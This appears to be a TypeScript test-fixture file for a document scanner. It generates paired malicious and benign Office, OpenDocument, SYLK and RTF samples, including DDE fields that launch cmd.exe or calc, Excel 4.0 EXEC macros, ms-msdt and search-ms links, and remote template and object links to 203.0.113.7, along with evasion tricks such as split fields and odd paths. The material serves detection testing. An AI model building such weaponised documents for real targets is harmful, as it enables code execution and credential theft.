import { deflateSync } from 'node:zlib'
import { join, le16 } from '../writers/bytes.ts'
import { compound, vbaProject } from '../writers/compound.ts'
import { docx, field, openDocument, paragraph, pptx, relations, WORD, xlsx } from '../writers/office.ts'
import { zip } from '../writers/zip.ts'
import { twins } from './twins.ts'

const sheetSpace = 'http://schemas.openxmlformats.org/spreadsheetml/2006/main'
const macroSpace = 'http://schemas.microsoft.com/office/excel/2006/main'
const wordPart = (body: string, before = '') =>
  `<?xml version="1.0"?>${before}<x:document xmlns:x="${WORD}"><x:body>${body.replaceAll('w:', 'x:')}</x:body></x:document>`
const dde = 'DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe"'
const date = 'DATE \\@ "d MMMM yyyy"'

/** The document itself under a path that nobody expects. */
const elsewhere = (part: string) =>
  docx('', {
    '_rels/.rels': relations([{ type: 'officeDocument', target: 'data/part.dat' }]),
    'data/part.dat': part,
  })

const split = (...texts: string[]) =>
  `<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>${texts.map((text) => `<w:r><w:instrText>${text}</w:instrText></w:r>`).join('<!-- <w:fldChar w:fldCharType="begin"/> -->')}<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>`

const pointing =
  (type: string, target: string, external = true) =>
  () =>
    docx(paragraph('x'), { 'word/_rels/document.xml.rels': relations([{ type, target, external }]) })

const connections =
  (inside: string, more = '') =>
  () =>
    xlsx('', {
      'xl/data/links.xml': `<connections xmlns="${sheetSpace}"><connection id="1" name="a" ${more}>${inside}</connection></connections>`,
    })

const macroSheet =
  (root: string) =>
  (path: string, types = '') =>
  () =>
    xlsx(
      '',
      {
        [path]: `<?xml version="1.0"?><!-- <a> --><m:${root} xmlns:m="${macroSpace}" xmlns="${sheetSpace}"><sheetData><row><c><f>EXEC("calc.exe")</f></c></row></sheetData></m:${root}>`,
      },
      types,
    )

const flat = (inside: string) =>
  `<?xml version="1.0" encoding="UTF-8"?><office:document xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" xmlns:script="urn:oasis:names:tc:opendocument:xmlns:script:1.0" xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" xmlns:xlink="http://www.w3.org/1999/xlink" xmlns:ooo="http://openoffice.org/2004/office" office:version="1.3" office:mimetype="application/vnd.oasis.opendocument.text">${inside}<office:body><office:text><text:p>hello</text:p></office:text></office:body></office:document>`
const libraries = (inside: string) =>
  `<office:scripts><office:script script:language="ooo:Basic"><ooo:libraries><ooo:library-embedded ooo:name="Standard">${inside}</ooo:library-embedded></ooo:libraries></office:script></office:scripts>`
const basic =
  '<ooo:module ooo:name="Module1"><ooo:source-code>Sub Main\n Shell("calc.exe")\nEnd Sub</ooo:source-code></ooo:module>'

const flatPackage = (type: string, data: string) =>
  `<?xml version="1.0"?><?mso-application progid="Word.Document"?><pkg:package xmlns:pkg="http://schemas.microsoft.com/office/2006/xmlPackage"><pkg:part pkg:name="/word/a.dat" pkg:contentType="${type}"><pkg:binaryData>${data}</pkg:binaryData></pkg:part></pkg:package>`

const xmlWorkbook = (formula: string) =>
  `<?xml version="1.0"?><?mso-application progid="Excel.Sheet"?><Workbook xmlns="urn:schemas-microsoft-com:office:spreadsheet" xmlns:ss="urn:schemas-microsoft-com:office:spreadsheet"><Worksheet ss:Name="a"><Table><Row><Cell ss:Formula="${formula}"/></Row></Table></Worksheet></Workbook>`

/** What Word's web pages keep objects and macros in. */
export const wrapped = (inside: Buffer) =>
  join('ActiveMime', Buffer.alloc(20), le16(4), Buffer.alloc(18), deflateSync(inside))

const installer = Buffer.from('84100c0000000000c000000000000046', 'hex')

const binaryLink = (kind: number) => () =>
  xlsx('', {
    'xl/externalLinks/externalLink1.bin': Buffer.from([0xe8, 0x02, 0x0a, kind, 0, 0, 0, 0, 0, 0, 0, 0, 0]),
  })

// biome-ignore format: one case, one line
export const officeTwins = twins([
  ['odd-dde.docx', 'a docx with a DDE field in a part at an odd path', () => elsewhere(wordPart(field(dde))), () => elsewhere(wordPart(field(date)))],
  ['glossary.docx', 'a docx with a DDE field in its glossary', () => docx('', { 'word/glossary/document.xml': wordPart(field(dde)) }), () => docx('', { 'word/glossary/document.xml': wordPart(field(date)) })],
  ['doctype.docx', 'a docx with a DDE field behind a document type', () => elsewhere(wordPart(field(dde), '<!DOCTYPE a [<!ENTITY b "<c>">]>')), () => elsewhere(wordPart(field(date), '<!-- <c> -->'))],
  ['comments.docx', 'a docx with a DDE field split by comments', () => docx(split('DD', 'EAUTO cmd')), () => docx(split('DA', 'TE'))],
  ['escapes.docx', 'a docx with a DDE field in escapes', () => docx(split('&#68;D&#x45;AUTO cmd')), () => docx(split('&#68;A&#x54;E'))],
  ['cdata.docx', 'a docx with a DDE field in CDATA', () => docx(split('<![CDATA[DDE]]>AUTO cmd')), () => docx(split('<![CDATA[DAT]]>E'))],
  ['include.docx', 'a docx with a field that includes a text from a share', () => docx(field('INCLUDETEXT "\\\\\\\\203.0.113.7\\\\s\\\\a.docx"')), () => docx(field('INCLUDETEXT "C:\\\\work\\\\a.docx"'))],
  ['link-field.docx', 'a docx with a link field that runs a program', () => docx(field('HYPERLINK "file:///C:/Windows/System32/calc.exe"')), () => docx(field('HYPERLINK "https://example.org/setup.exe"'))],
  ['xlm-odd.xlsx', 'an xlsx with an Excel 4.0 macro sheet at an odd path', macroSheet('macrosheet')('xl/worksheets/data.dat'), macroSheet('worksheet')('xl/worksheets/data.dat')],
  ['xlm-default.xlsb', 'an xlsb whose binary sheets are macros by default', () => xlsx('', { 'xl/a.bin': Buffer.alloc(64, 1) }, '<Default Extension="bin" ContentType="application/vnd.ms-excel.intlmacrosheet"/>'), () => xlsx('', { 'xl/a.bin': Buffer.alloc(64, 1) }, '<Default Extension="bin" ContentType="application/vnd.ms-excel.worksheet"/>')],
  ['xlm-relation.xlsx', 'an xlsx with an Excel 4.0 macro sheet by its relation', () => xlsx('', { 'xl/_rels/workbook.xml.rels': relations([{ type: 'http://schemas.microsoft.com/office/2006/relationships/xlMacrosheet', target: 'a.dat' }]) }), () => xlsx('', { 'xl/_rels/workbook.xml.rels': relations([{ type: 'worksheet', target: 'worksheets/sheet1.xml' }]) })],
  ['control.pptx', 'a pptx with an ActiveX control by its relation', () => pptx({ 'ppt/slides/_rels/slide1.xml.rels': relations([{ type: 'control', target: '../a/b.xml' }]) }), () => pptx({ 'ppt/slides/_rels/slide1.xml.rels': relations([{ type: 'slideLayout', target: '../a/b.xml' }]) })],
  ['control.docx', 'a docx with an ActiveX control at an odd path', () => docx('', { 'word/parts/a.dat': '<q:ocx xmlns:q="http://schemas.microsoft.com/office/2006/activeX" q:classid="{8BD21D10-EC42-11CE-9E0D-00AA006002F3}"/>' }), () => docx('', { 'word/parts/a.dat': '<q:ocx xmlns:q="https://example.org/other"/>' })],
  ['form.xlsx', 'an xlsx with a control that is none of its own', () => xlsx('', { 'xl/worksheets/_rels/sheet1.xml.rels': relations([{ type: 'control', target: '../a.xml' }]) }), () => xlsx('', { 'xl/ctrlProps/ctrlProp1.xml': '<formControlPr xmlns="http://schemas.microsoft.com/office/spreadsheetml/2009/9/main" objectType="CheckBox"/>', 'xl/worksheets/_rels/sheet1.xml.rels': relations([{ type: 'ctrlProp', target: '../ctrlProps/ctrlProp1.xml' }]) })],
  ['ribbon.docx', 'a docx with a ribbon of its own and macros', () => docx('', { 'customUI/customUI.xml': '<customUI xmlns="http://schemas.microsoft.com/office/2006/01/customui" onLoad="Start"/>', 'customUI/a.dat': compound(vbaProject('Sub Start()\r\nEnd Sub')) }), () => docx('', { 'customUI/customUI.xml': '<customUI xmlns="http://schemas.microsoft.com/office/2006/01/customui" onLoad="Start"/>' })],
  ['dde-odd.xlsx', 'an xlsx with a DDE link at an odd path', () => xlsx('', { 'xl/links/a.xml': `<externalLink xmlns="${sheetSpace}"><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>` }), () => xlsx('', { 'xl/links/a.xml': `<externalLink xmlns="${sheetSpace}"><externalBook/></externalLink>` })],
  ['dde.xlsb', 'an xlsb with a DDE link', binaryLink(1), binaryLink(0)],
  ['query.xlsx', 'an xlsx that asks a web page on opening', connections('<webPr url="http://203.0.113.7/a"/>', 'type="4" refreshOnLoad="1"'), connections('<webPr url="https://example.org/rates"/>', 'type="4"')],
  ['command.xlsx', 'an xlsx with a connection that runs a command', connections('<dbPr connection="DSN=a;DBQ=cmd.exe /c calc" command="x"/>', 'type="1"'), connections('<dbPr connection="Provider=SQLOLEDB;Data Source=db1;Initial Catalog=sales" command="SELECT a || \'b\' FROM c"/>', 'type="5" refreshOnLoad="1"')],
  ['msdt.docx', 'a docx with a link to the support tool of Windows', pointing('hyperlink', 'ms-msdt:/id PCWDiagnostic /skip force'), pointing('hyperlink', 'ms-word:ofv|u|https://example.org/a.docx')],
  ['search.docx', 'a docx with a link that searches a share', pointing('hyperlink', 'search-ms:query=a&amp;crumb=location:\\\\203.0.113.7\\s'), pointing('hyperlink', 'https://example.org/?search-ms:query=a')],
  ['chunk.docx', 'a docx with a piece from the web', pointing('aFChunk', 'http://203.0.113.7/a.mht'), pointing('hyperlink', 'http://203.0.113.7/a.mht')],
  ['transform.docx', 'a docx with a style sheet on the web', pointing('transform', 'http://203.0.113.7/a.xsl'), pointing('transform', 'file:///C:\\styles\\a.xsl')],
  ['object.docx', 'a docx with a linked object behind mhtml', pointing('oleObject', 'mhtml:file://203.0.113.7/a!x-usc:b'), pointing('oleObject', 'file:///C:\\work\\a.xlsx')],
  ['image.docx', 'a docx with a picture on a share', pointing('image', '\\\\203.0.113.7\\s\\a.png'), pointing('image', 'https://example.org/a.png')],
  ['chunk-rtf.docx', 'a docx with RTF and an object under the name of a text', () => docx('', { 'word/chunk.txt': '{\\rt{\\object{\\*\\objdata 01}}}' }), () => docx('', { 'word/chunk.txt': '{\\rt hello}' })],
  ['wrapped.docx', 'a docx with macros as web pages keep them', () => docx('', { 'word/a.mso': wrapped(compound(vbaProject('Sub AutoOpen()\r\nEnd Sub'))) }), () => docx('', { 'word/a.mso': wrapped(compound([{ name: 'Contents', data: Buffer.alloc(64) }])) })],
  ['flat.xml', 'a Word document as one XML file with macros under another name', flatPackage('application/vnd.ms-office.vbaProject', 'AAAA'), flatPackage('image/png', 'iVBORw0KGgo=')],
  ['sheet.xml', 'a workbook as one XML file with a DDE formula', xmlWorkbook("=cmd|'/c calc'!A0"), xmlWorkbook('=SUM(R[-2]C:R[-1]C)')],
  ['macro.fodt', 'a flat OpenDocument text with a macro', flat(libraries(basic)), flat(libraries(''))],
  ['event.fodt', 'a flat OpenDocument text that runs something on opening', flat('<office:scripts><office:event-listeners><script:event-listener script:language="ooo:script" script:event-name="dom:load" xlink:href="vnd.sun.star.script:a.py$b?language=Python&amp;location=share"/></office:event-listeners></office:scripts>'), flat('<office:scripts/>')],
  ['script.fods', 'a flat OpenDocument file with script', flat('<office:scripts><office:script script:language="JavaScript">x()</office:script></office:scripts>'), flat('<office:scripts><office:script script:language="ooo:Basic">\n</office:script></office:scripts>')],
  ['flat.odt', 'a flat OpenDocument text with a macro under the name of a packed one', flat(libraries(basic)), () => openDocument('text', '<text:p>hello</text:p>')],
  ['flat.zip', 'a flat OpenDocument text with a macro in a zip', () => zip([{ name: 'docs/a.fodt', data: flat(libraries(basic)) }]), () => zip([{ name: 'docs/a.fodt', data: flat('') }])],
  [['macro.slk', 'macro.txt'], 'a SYLK table with a macro', 'ID;P\nO;E\nNN;NAuto_open;ER1C1\nC;X1;Y1;EEXEC("calc.exe")\nC;X1;Y2;EHALT()\nE\n', 'A SYLK table begins with `ID;P`, and `O;E` makes it a macro sheet:\nO;E\nC;X1;Y1;EEXEC("calc.exe")\n'],
  [['table.slk', 'table.csv'], 'a SYLK table without a macro', 'ID;PWXL;N;E\nP;PGeneral\nB;Y2;X2\nC;Y1;X1;K"a"\nC;Y2;X1;K3;E1+2\nE\n', 'ID;Price;Element\nB;2;Boron\nC;3;Carbon (E)\nO;1;Oxygen\nNN;4;None\n'],
  ['dde.csv', 'a SYLK table with a DDE formula under the name of a CSV', "ID;P\nC;K0;ECMD|'/C calc'!A0\nE\n", "ID;Price\nC;CMD|'/C calc'!A0\n"],
  ['sylk.csv', 'a SYLK table with a macro under the name of a CSV', 'ID;P\nO;E\nC;X1;Y1;EEXEC("calc")\nE\n', 'ID;Price;Objects\n1;2;3\nC;4;EXEC\n'],
  ['setup.zip', 'an installer of Windows, in a zip', () => zip([{ name: 'setup.msi', data: compound([{ name: 'a', data: Buffer.alloc(64) }], { classId: installer }) }]), () => zip([{ name: 'setup.msi', data: compound([{ name: 'a', data: Buffer.alloc(64) }]) }])],
  ['form.fdf', 'data of a form with script', '%FDF-1.2\n1 0 obj\n<< /FDF << /JavaScript << /Doc [(a) (app.alert\\(1\\))] >> >> >>\nendobj\n', '%FDF-1.2\n1 0 obj\n<< /FDF << /Fields [<< /T (a) /V (JavaScript) >>] >> >>\nendobj\n'],
  ['form.xdp', 'a form for Acrobat in XML', '<?xml version="1.0"?><xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><pdf xmlns="http://ns.adobe.com/xdp/pdf/"/></xdp:xdp>', '<?xml version="1.0"?><xdp:xdp xmlns:xdp="https://example.org/xdp"/>'],
  ['mark.rtf', 'an RTF with an object behind a byte order mark', '\ufeff{\\rtf1{\\object{\\*\\objdata 01}}}', '\ufeff{\\rtf1 hello}'],
  ['include.rtf', 'an RTF with a picture on a share', '{\\rtf1{\\field{\\*\\fldinst INCLUDEPICTURE "\\\\\\\\\\\\\\\\203.0.113.7\\\\\\\\s\\\\\\\\a.png"}}}', '{\\rtf1{\\field{\\*\\fldinst INCLUDEPICTURE "https://example.org/a.png"}}}'],
  ['utf7.docx', 'a docx with a part in UTF-7', () => docx('', { 'word/a.xml': '<?xml version="1.0" encoding="utf-7"?>+ADw-a/+AD4-' }), () => docx('', { 'word/a.xml': '<?xml version="1.0" encoding="utf-8"?><a/>' })],
  ['python.odt', 'an odt with a script that its list does not name', () => openDocument('text', '', { 'Scripts/python/a.py': 'import os\n' }), () => openDocument('text', '', { 'Configurations2/a.py.txt': 'import os\n' })],
  ['cell.xlsx', 'an xlsx with a DDE formula in a cell', () => xlsx("<row><c><f>cmd|'/c calc'!A0</f></c></row>"), () => xlsx('<row><c><f>A1&amp;"a|b!c"</f></c></row>')],
])
